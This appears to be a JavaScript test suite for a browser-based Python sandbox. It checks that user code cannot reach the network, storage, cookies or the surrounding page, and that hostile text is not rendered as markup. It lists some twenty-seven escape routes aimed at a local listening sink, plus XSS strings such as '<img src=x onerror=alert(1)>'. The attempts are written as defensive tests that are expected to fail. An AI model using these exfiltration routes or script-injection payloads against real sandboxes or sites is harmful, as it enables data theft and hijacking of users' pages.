// A stranger's program cannot reach anything: no network, no storage, no page around it; and no text
// of its making becomes markup. A listening sink counts what gets out.
import assert from "node:assert/strict";
import { createServer } from "node:http";
import { after, before } from "node:test";
import { base, fresh, launch, run, test, write } from "./browser.mjs";

let browser;
let sink;
const hits = [];
before(async () => {
  sink = createServer((request, response) => {
    hits.push(request.url);
    response.writeHead(200, { "access-control-allow-origin": "*" });
    response.end("export default 1");
  });
  await new Promise((resolve) => sink.listen(0, "127.0.0.1", resolve));
  browser = await launch();
});
after(() => { sink.close(); return browser.close(); });

/** Ways out, each a JavaScript expression; it runs in a worker that the program starts itself. */
const WAYS = {
  fetch: "fetch('SINK/fetch')",
  "fetch without cors": "fetch('SINK/no-cors',{mode:'no-cors'})",
  "keepalive fetch": "fetch('SINK/keepalive',{keepalive:true,method:'POST',body:'x'})",
  xhr: "(()=>{const x=new XMLHttpRequest();x.open('GET','SINK/xhr',false);x.send();return x.status})()",
  websocket: "new Promise((y,n)=>{const w=new WebSocket('SINK/ws'.replace('http','ws'));w.onopen=y;w.onerror=n})",
  eventsource: "new Promise((y,n)=>{const e=new EventSource('SINK/es');e.onopen=y;e.onerror=n})",
  beacon: "(()=>{if(!navigator.sendBeacon('SINK/beacon'))throw 1;return true})()",
  import: "import('SINK/module.js')",
  worker: "new Promise((y,n)=>{const w=new Worker('SINK/worker.js',{type:'module'});w.onmessage=y;w.onerror=n})",
  "nested worker": "new Promise((y,n)=>{const w=new Worker('data:text/javascript,fetch(\"SINK/nested\").then(()=>postMessage(1),()=>postMessage(0))',{type:'module'});w.onmessage=e=>e.data?y():n();w.onerror=n})",
  "classic nested worker": "new Promise((y,n)=>{const w=new Worker('data:text/javascript,try{importScripts(\"SINK/script.js\");postMessage(1)}catch{postMessage(0)}');w.onmessage=e=>e.data?y():n();w.onerror=n})",
  "blob worker": "new Promise((y,n)=>{const u=URL.createObjectURL(new Blob(['fetch(\"SINK/blob\").then(()=>postMessage(1),()=>postMessage(0))']));const w=new Worker(u);w.onmessage=e=>e.data?y():n();w.onerror=n})",
  "shared worker": "new Promise((y,n)=>{const w=new SharedWorker('SINK/shared.js');w.onerror=n})",
  font: "(()=>{const f=new FontFace('f','url(SINK/font)');return f.load()})()",
  webrtc: "new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:9'}]})",
  webtransport: "new WebTransport('https://127.0.0.1:9/').ready",
  localStorage: "localStorage.getItem('gradtape.program')",
  indexedDB: "new Promise((y,n)=>{const r=indexedDB.open('x');r.onsuccess=y;r.onerror=n})",
  caches: "caches.open('x')",
  cookies: "cookieStore.getAll()",
  opfs: "navigator.storage.getDirectory()",
  broadcast: "(()=>{new BroadcastChannel('x').postMessage(1);if(location.origin!=='null')return 1;throw 1})()",
  serviceWorker: "navigator.serviceWorker.register('SINK/sw.js')",
  parent: "parent.document.title",
  document: "document.title",
  opener: "opener.location.href",
  eval: "new Function('return 1')()",
};

test("no way out of the sandbox for a program that brings its own JavaScript", async (t) => {
  const page = await fresh(browser);
  const address = `http://127.0.0.1:${sink.address().port}`;
  const attempts = Object.fromEntries(Object.entries(WAYS).map(([name, way]) => {
    const script = `(async()=>{try{const v=await Promise.race([(async()=>${way})(),new Promise((_,n)=>setTimeout(()=>n('nothing came'),1500))]);postMessage('GOT '+v)}catch(e){postMessage('refused: '+(e&&e.name||e))}})()`;
    return [name, `data:text/javascript;base64,${btoa(script.replaceAll("SINK", address))}`];
  }));
  await write(page, `import asyncio, json
import js
from pyodide.ffi import create_once_callable, to_js

async def answer(address):
    future = asyncio.get_event_loop().create_future()
    kind = to_js({"type": "module"}, dict_converter=js.Object.fromEntries)
    worker = js.Worker.new(address, kind)
    worker.onmessage = create_once_callable(lambda event: future.set_result(event.data))
    worker.onerror = create_once_callable(lambda event: future.set_result("did not start"))
    return await asyncio.wait_for(future, 5)

for name, address in json.loads(${JSON.stringify(JSON.stringify(attempts))}).items():
    print(name, "->", await answer(address))
print("tried all")
`);
  const output = await run(page);
  t.diagnostic(output.replaceAll("\n", "; "));
  assert.match(output, /tried all/);
  const lines = output.split("\n").slice(0, -1);
  assert.equal(lines.length, Object.keys(WAYS).length);
  assert.deepEqual(lines.filter((line) => !/-> (refused|did not start)/.test(line)), []);
  assert.deepEqual(hits, []);
  await page.context().close();
});

test("no way out through the objects that Python sees", async (t) => {
  const page = await fresh(browser);
  const address = `http://127.0.0.1:${sink.address().port}`;
  await write(page, `import js
def xhr():
    request = js.XMLHttpRequest.new()
    request.open("GET", "${address}/xhr", False)
    request.send()
    return request.status
for attempt in (
    lambda: js.fetch("${address}/fetch"),
    xhr,
    lambda: js.WebSocket.new("${address}/ws".replace("http", "ws")),
    lambda: js.importScripts("${address}/script.js"),
    lambda: js.navigator.sendBeacon("${address}/beacon"),
    lambda: js.eval("1"),
    lambda: js.parent.document.title,
    lambda: js.localStorage.length,
    lambda: js.caches.open("x"),
    lambda: js.indexedDB.open("x"),
):
    try:
        value = attempt()
        value = await value if hasattr(value, "then") else value
        print("GOT", value)
    except BaseException as error:
        print("refused", type(error).__name__)
import asyncio
await asyncio.sleep(0.5)
print("tried all")
`);
  const output = await run(page);
  t.diagnostic(output.replaceAll("\n", "; "));
  assert.match(output, /tried all/);
  assert.deepEqual(hits, []);
  await page.context().close();
});

test("Python's own network modules reach nothing", async () => {
  const page = await fresh(browser);
  await write(page, `import urllib.request, socket
for attempt in (
    lambda: urllib.request.urlopen("http://127.0.0.1:${sink.address().port}/urllib", timeout=2),
    lambda: socket.create_connection(("127.0.0.1", ${sink.address().port}), 2).send(b"GET /socket"),
    lambda: socket.gethostbyname("leak.example.com"),
):
    try:
        print("GOT", attempt())
    except BaseException as error:
        print("refused", type(error).__name__)
from pyodide.http import pyfetch
try:
    print("GOT", await pyfetch("http://127.0.0.1:${sink.address().port}/pyfetch"))
except BaseException as error:
    print("refused", type(error).__name__)
`);
  await run(page);
  assert.deepEqual(hits, []);
  await page.context().close();
});

test("forged messages are refused and change nothing", async () => {
  const page = await fresh(browser);
  await write(page, `import js
from pyodide.ffi import to_js

def send(message):
    js.postMessage(to_js(message, dict_converter=js.Object.fromEntries))

send({"kind": "frame-ready", "interrupts": 1})
send({"kind": "__proto__"})
send({"kind": "worker-failed", "text": "forged"})
send({"kind": "output", "run": -1, "stream": "html", "text": 5})
send(None)
print("<img src=x onerror=alert(1)><script>alert(2)</script>")
`);
  assert.equal(await run(page), "<img src=x onerror=alert(1)><script>alert(2)</script>");
  assert.equal(await page.locator("#output img, #output script").count(), 0);
  await page.context().close();
});

test("hostile text stays text: names, tracebacks, figures", async () => {
  const page = await fresh(browser);
  await write(page, `import gradtape as tf
import matplotlib.pyplot as plt
evil = "<svg onload=alert(1)>"
x = tf.Variable(1.0, name="x")
class E(Exception):
    pass
E.__name__ = evil
plt.plot([1, 2])
plt.title(evil)
plt.show()
with tf.GradientTape() as tape:
    y = x * 2.0
tape.gradient(y, tf.Variable(2.0, name="y"))
raise E(evil)
`);
  let alerted = false;
  page.on("dialog", (dialog) => { alerted = true; return dialog.dismiss(); });
  assert.match(await run(page), /<svg onload=alert\(1\)>/);
  assert.equal(await page.locator("[onload], [onerror]").count(), 0);
  assert.equal(alerted, false);
  await page.context().close();
});

test("the sandbox's document has no origin and no page around it answers", async () => {
  const page = await fresh(browser);
  await page.waitForFunction(() => document.querySelector("iframe") !== null);
  const frame = page.frames().find((candidate) => candidate !== page.mainFrame());
  await frame.waitForLoadState();
  const seen = await frame.evaluate(() => {
    const attempt = (read) => { try { return String(read()); } catch (error) { return error.name; } };
    return {
      origin: self.origin,
      parent: attempt(() => parent.document.title),
      top: attempt(() => top.location.href),
      storage: attempt(() => localStorage.length),
      cookie: attempt(() => document.cookie),
    };
  });
  assert.deepEqual(seen, {
    origin: "null", parent: "SecurityError", top: "SecurityError", storage: "SecurityError",
    cookie: "SecurityError",
  });
  await page.context().close();
});

test("a damaged link says so and runs nothing", async () => {
  for (const fragment of ["#code=1xxxx", "#code=9abc"]) {
    const page = await fresh(browser, `/${fragment}`);
    await page.locator("#output .note").nth(1).waitFor();
    assert.match(await page.locator("#output").innerText(), /damaged|version/);
    assert.equal(new URL(page.url()).origin, new URL(base).origin);
    await page.context().close();
  }
});

test("a link to nothing is answered in words", async () => {
  const page = await fresh(browser, "/s/bcdfghjkmnpq");
  assert.match(await page.locator("body").innerText(), /no such snippet/i);
  await page.context().close();
});
